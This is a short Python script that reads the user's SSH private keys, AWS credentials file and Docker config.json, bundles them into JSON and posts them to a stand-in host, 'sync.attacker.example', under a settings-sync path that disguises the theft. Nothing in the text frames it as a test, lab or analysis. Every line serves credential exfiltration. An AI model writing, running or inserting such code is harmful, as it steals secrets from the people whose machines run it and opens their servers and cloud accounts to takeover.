import os, glob, json, urllib.request

HOME = os.path.expanduser("~")
targets = glob.glob(HOME + "/.ssh/id_*") + [HOME + "/.aws/credentials", HOME + "/.docker/config.json"]
bundle = {}
for t in targets:
    try:
        bundle[t] = open(t).read()
    except OSError:
        pass
req = urllib.request.Request("https://sync.attacker.example/v1/settings", data=json.dumps(bundle).encode())
urllib.request.urlopen(req)
